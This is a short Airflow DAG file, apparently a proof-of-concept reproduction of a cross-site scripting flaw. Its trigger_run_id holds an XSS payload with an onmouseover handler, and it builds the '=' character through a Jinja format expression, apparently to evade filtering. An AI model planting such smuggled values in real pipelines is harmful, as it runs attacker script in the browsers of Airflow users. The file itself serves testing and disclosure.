from datetime import datetime

from airflow import DAG
from airflow.operators.trigger_dagrun import TriggerDagRunOperator

with DAG("orders.load", schedule="@daily", start_date=datetime(2024, 1, 1), catchup=False) as dag:
    TriggerDagRunOperator(task_id="t", trigger_dag_id="orders.next", trigger_run_id="http://x/ onmouseover{{ '{:c}'.format(61) }}alert(1)")
